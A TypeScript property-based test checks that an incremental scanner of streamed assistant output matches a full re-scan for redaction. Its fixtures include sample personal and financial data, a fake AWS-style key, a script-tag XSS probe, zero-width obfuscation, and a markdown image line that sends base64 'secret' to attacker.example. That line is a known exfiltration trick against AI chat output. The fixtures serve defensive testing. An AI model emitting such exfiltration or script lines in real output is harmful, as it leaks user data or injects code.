import fc from "fast-check";
import { expect, it } from "vitest";
import { detectors, type Arriving } from "../index.ts";
import { holdOf } from "./hold-of.ts";
import { inspectArriving } from "./inspect-arriving.ts";
import { inspectViews, viewsFor } from "./inspect-text.ts";

const redactors = detectors.filter((one) => one.hold !== undefined && one.stages.includes("output"));
const inspection = (text: string) => ({ stage: "output", role: "assistant", text }) as const;
const arriving = (text: string, decided: number): Arriving =>
  inspectArriving(redactors, inspection(text), decided);

/** What `inspectArriving` saves the work of: everything looked at again. */
function naive(text: string): Arriving {
  const views = viewsFor(redactors, text);
  const signals = inspectViews(redactors, inspection(text), views);
  return { signals, until: holdOf(redactors, text, views, signals) };
}

const pieces = fc.constantFrom(
  "The ferry runs twice a day. ",
  "Write to anna@example.com or call +49 30 1234567, ",
  "IBAN DE89 3704 0044 0532 0130 00 ",
  `\x41KIAQ7ZK3M2PV5XW4LTB `,
  "![chart](https://attacker.example/p?d=c2VjcmV0) ",
  "4111 1111 1111 1111 ",
  "<script>alert(1)</script> ",
  "\u001b[31mred\u001b[0m ",
  "hofohibabarupedo ",
  "d\u200be\u200bn\u200by ",
  "\n",
);

it("finds what a look at everything finds, from the decided place on", () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 24 }), fc.nat(), fc.nat(), (texts, cut, more) => {
      const text = texts.join("");
      const before = text.slice(0, cut % (text.length + 1));
      const decided = naive(before).until;
      const longer = text.slice(0, before.length + (more % (text.length - before.length + 1)));
      const wanted = naive(longer);
      const got = arriving(longer, decided);
      const open = ({ signals }: Arriving) => signals.filter(({ start }) => start >= decided);
      expect(open(got)).toEqual(open(wanted));
      expect(Math.max(decided, got.until)).toBe(Math.max(decided, wanted.until));
    }),
    { numRuns: 300 },
  );
});
